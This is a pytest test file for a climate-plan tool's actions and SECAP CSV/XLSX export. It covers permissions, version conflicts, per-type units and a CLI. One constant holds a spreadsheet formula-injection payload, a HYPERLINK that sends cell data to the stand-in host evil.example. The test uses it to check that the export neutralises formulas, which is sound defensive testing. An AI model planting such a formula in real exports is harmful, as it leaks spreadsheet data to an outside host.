"""Climate-plan actions and the SECAP export (SQLite and PostGIS): each action with its own type, unit and effect."""

from __future__ import annotations

import datetime as dt
from pathlib import Path

import pandas as pd
import pytest

from gisplan.actions import ActionSpec, action_from_site, add_action, list_actions, update_action_status
from gisplan.cli import main
from gisplan.errors import ConflictError, InputError, NotFoundError, PermissionDeniedError
from gisplan.secap import SECAP_COLUMNS, secap_actions, write_secap
from gisplan.store import SYSTEM, Role, Store, open_store
from gisplan.store.models import SiteScore
from gisplan.store.permissions import Scope
from tests.funding.pipeline_world import PipelineWorld, build_pipeline_world
from tests.store.conftest import pg_schema, sqlite_template, store, store_url  # noqa: F401 - fixtures (both backends)

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def world(store: Store) -> PipelineWorld:  # noqa: F811
    return build_pipeline_world(store)


def _score_s2_for_redevelopment(store: Store) -> None:  # noqa: F811
    """The brownfield s2 also scored for redevelopment, better than for ground PV (65)."""

    def work(tx: object) -> None:
        tx.session.add(  # type: ignore[attr-defined]
            SiteScore(
                site_id="t:s2",
                profile="redevelopment",
                score=90.0,
                excluded=False,
                capacity_kwp=2000.0,  # the profile's PV screening figure: must never reach the SECAP export
                energy_mwh_yr=2100.0,
                co2_t_yr=945.0,
            )
        )

    store.transaction(SYSTEM, work)


def _mixed_set(store: Store) -> None:  # noqa: F811
    _score_s2_for_redevelopment(store)
    action_from_site(
        store,
        SYSTEM,
        "t:s1",
        responsible_body="Obecní úřad Brehice",
        start_date=dt.date(2025, 3, 1),
        end_date=dt.date(2025, 9, 30),
        status="completed",
        cost_eur=120_000.0,
    )
    add_action(
        store,
        SYSTEM,
        ActionSpec(
            municipality_code="599101",
            title=HOSTILE,
            action_type="renewable_heat",
            responsible_body="Teplárna Brehice s.r.o.",
            start_date=dt.date(2026, 1, 1),
            end_date=dt.date(2027, 12, 31),
            status="ongoing",
            cost_eur=800_000.0,
            capacity=450.0,
            production_mwh_yr=1200.0,
            co2_t_yr=300.0,
            note="biomass boiler, 2,700 full-load hours",
        ),
    )


# ----------------------------------------------------------------------------------------- actions
def test_spec_problems_are_all_listed() -> None:
    spec = ActionSpec(
        municipality_code=" ",
        title="",
        action_type="redevelopment",
        sector="space",
        status="done",
        start_date=dt.date(2026, 1, 1),
        end_date=dt.date(2025, 1, 1),
        cost_eur=-1.0,
        capacity=10.0,
        production_mwh_yr=5.0,
        energy_savings_mwh_yr=3.0,
    )
    problems = spec.problems()
    assert len(problems) == 9, problems
    assert any("produces no energy" in p for p in problems)
    assert any("has no capacity" in p for p in problems)
    assert ActionSpec("1", "Heat pumps", "heat_pump", energy_savings_mwh_yr=40.0).problems() == []
    assert any("unknown" in p for p in ActionSpec("1", "x", "fusion").problems())


def test_add_checks_place_scope_and_status_versions(store: Store, world: PipelineWorld) -> None:  # noqa: F811
    with pytest.raises(InputError, match="end 2025-01-01 is before"):
        add_action(
            store,
            SYSTEM,
            ActionSpec("599101", "x", "transport", start_date=dt.date(2026, 1, 1), end_date=dt.date(2025, 1, 1)),
        )
    with pytest.raises(NotFoundError, match="no municipality '111111'"):
        add_action(store, SYSTEM, ActionSpec("111111", "Bus", "transport"))
    outsider = store.add_user(SYSTEM, "ani", Role.ANIMATOR, scope=Scope.parse(["region:CZ080"])).id
    with pytest.raises(PermissionDeniedError):
        add_action(store, outsider, ActionSpec("599101", "Bus", "transport"))
    with pytest.raises(PermissionDeniedError):
        action_from_site(store, outsider, "t:s1")
    assert list_actions(store).empty
    insider = store.add_user(SYSTEM, "ani2", Role.ANIMATOR, scope=Scope.parse(["region:CZ042"])).id
    action_id = add_action(store, insider, ActionSpec("599101", "Bus", "transport", energy_savings_mwh_yr=12.0))
    table = list_actions(store, municipality_codes=["599101"])
    assert table[["action_id", "sector", "status", "version"]].values.tolist() == [
        [action_id, "transport", "not_started", 1]
    ]
    update_action_status(store, insider, action_id, "ongoing", expected_version=1)
    with pytest.raises(ConflictError):
        update_action_status(store, insider, action_id, "completed", expected_version=1)
    assert list_actions(store)["status"].tolist() == ["ongoing"]


def test_site_action_takes_its_best_profile(store: Store, world: PipelineWorld) -> None:  # noqa: F811
    _score_s2_for_redevelopment(store)
    brownfield = action_from_site(store, SYSTEM, "t:s2")
    pv = action_from_site(store, SYSTEM, "t:s2", profile="ground_pv", status="postponed")
    table = list_actions(store).set_index("action_id")
    assert table.loc[brownfield, ["action_type", "sector"]].tolist() == ["redevelopment", "land_use"]
    assert table.loc[brownfield, ["capacity", "production_mwh_yr", "co2_t_yr"]].isna().all()
    assert table.loc[pv, ["action_type", "capacity", "capacity_unit", "production_mwh_yr"]].tolist() == [
        "pv_ground",
        2000.0,
        "",  # the unit is the type's: the export names it
        2100.0,
    ]


# ------------------------------------------------------------------------------------------- SECAP
def test_sites_without_actions_follow_their_best_profile(store: Store, world: PipelineWorld) -> None:  # noqa: F811
    table = secap_actions(store, "599101")
    assert list(table.columns) == SECAP_COLUMNS
    actions = table.set_index("action_id")
    assert actions.index.tolist() == ["t:s1", "t:s2", "t:s6"]  # s6 is linked although new
    s1, s2 = actions.loc["t:s1"], actions.loc["t:s2"]
    assert (s1["action_type"], s1["capacity"], s1["capacity_unit"], s1["renewable_production_mwh_yr"]) == (
        "pv_rooftop",
        100.0,
        "kWp",
        100.0,
    )
    assert (s1["implementation_status"], s1["status_since"], s1["funding"]) == (
        "Completed",
        dt.date(2025, 9, 30),
        "RES3_2024 (eligible)",
    )
    assert (s2["action_type"], s2["area_of_intervention"]) == ("pv_ground", "Local electricity production")
    assert s2["funding"] == "OPST40 (unknown); RES3_2024 (not_eligible)"
    assert secap_actions(store, "599102").empty  # s3 rejected, s4 new and not linked
    with pytest.raises(NotFoundError, match="no municipality '111111'"):
        secap_actions(store, "111111")


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_mixed_set_reads_back_with_its_own_types_units_and_effects(
    store: Store,  # noqa: F811
    world: PipelineWorld,
    tmp_path: Path,
    suffix: str,
) -> None:
    _mixed_set(store)
    path = write_secap(secap_actions(store, "599101"), tmp_path / f"secap{suffix}", note="gisplan test")
    if suffix == ".csv":
        back = pd.read_csv(path, dtype={"municipality_code": str})
    else:
        back = pd.read_excel(path, sheet_name="actions", dtype={"municipality_code": str})
        about = pd.read_excel(path, sheet_name="about").set_index("item")["value"]
        assert float(about["renewable_production_mwh_yr"]) == pytest.approx(100.0 + 1200.0 + 30.0)
    assert list(back.columns) == SECAP_COLUMNS
    rows = {r["action_type"]: r for r in back.to_dict("records")}
    heat = next(r for r in back.to_dict("records") if r["action_type"] == "renewable_heat")
    rooftop = next(r for r in back.to_dict("records") if r["site_id"] == "t:s1")
    brownfield = next(r for r in back.to_dict("records") if r["site_id"] == "t:s2")
    assert set(rows) == {"pv_rooftop", "renewable_heat", "redevelopment"}
    # the rooftop PV: an action made from the site, with its MyCovenant fields and the PV effect
    assert rooftop["action_id"].startswith("action:")
    assert (rooftop["area_of_intervention"], rooftop["capacity"], rooftop["capacity_unit"]) == (
        "Local electricity production",
        100.0,
        "kWp",
    )
    assert (rooftop["renewable_production_mwh_yr"], rooftop["co2_reduction_t_yr"]) == (100.0, 45.0)
    assert (rooftop["responsible_body"], str(rooftop["implementation_start"])[:10]) == (
        "Obecní úřad Brehice",
        "2025-03-01",
    )
    assert (rooftop["implementation_status"], rooftop["implementation_cost_eur"]) == ("Completed", 120000.0)
    # the heat action: its own sector, unit and effect; its title neutralised as a formula
    assert (heat["area_of_intervention"], heat["dk2020_sector"]) == ("Local heat/cold production", "Heating")
    assert (heat["capacity"], heat["capacity_unit"], heat["renewable_production_mwh_yr"]) == (450.0, "kWth", 1200.0)
    assert (heat["co2_reduction_t_yr"], heat["implementation_status"]) == (300.0, "Ongoing")
    assert heat["action_title"] == "'" + HOSTILE
    # the brownfield scored for redevelopment: a redevelopment, nothing about PV
    assert (brownfield["action_type"], brownfield["area_of_intervention"]) == ("redevelopment", "Others")
    assert brownfield["measure"] == "Brownfield redevelopment"
    for column in ("capacity", "capacity_unit", "renewable_production_mwh_yr", "energy_savings_mwh_yr"):
        assert pd.isna(brownfield[column]), column  # empty cells: not 0, not PV figures
    assert pd.isna(brownfield["co2_reduction_t_yr"])
    text = " ".join(str(v) for v in brownfield.values() if not pd.isna(v)).lower()
    assert "photovolt" not in text and "kwp" not in text and " pv" not in text and "mwp" not in text


def test_export_refuses_other_formats(tmp_path: Path) -> None:
    with pytest.raises(InputError, match=r"\.csv or \.xlsx"):
        write_secap(pd.DataFrame(columns=SECAP_COLUMNS), tmp_path / "secap.ods")


# --------------------------------------------------------------------------------------------- CLI
def test_cli_actions(store_url: str, capsys: pytest.CaptureFixture[str]) -> None:  # noqa: F811
    with open_store(store_url, upgrade=False) as opened:
        build_pipeline_world(opened)
    base = ["actions", "add", "--municipality", "599101", "--url", store_url]
    bus = ["--title", "Bus", "--type", "transport", "--savings-mwh-yr", "12", "--start", "2026-01-01"]
    assert main([*base, *bus, "--origin", "proposal:7"]) == 0
    assert "(transport) in 599101" in capsys.readouterr().out
    assert main([*base, "--title", "Bad", "--type", "transport", "--start", "1.1.2026"]) == 1
    assert "write it as YYYY-MM-DD" in capsys.readouterr().err
    assert main([*base, "--title", "Brownfield PV", "--type", "redevelopment", "--production-mwh-yr", "5"]) == 1
    assert "produces no energy" in capsys.readouterr().err
    assert main(["actions", "from-site", "t:s1", "--responsible", "OÚ", "--url", store_url]) == 0
    assert main(["actions", "list", "--url", store_url]) == 0
    out = capsys.readouterr().out.splitlines()[-2:]
    assert "transport\tnot_started\tBus\tsaves MWh/yr 12" in out[0]
    assert "pv_rooftop" in out[1] and "produces MWh/yr 100" in out[1]
    with open_store(store_url, upgrade=False) as opened:
        assert list_actions(opened)["origin"].tolist() == ["proposal:7", "site"]
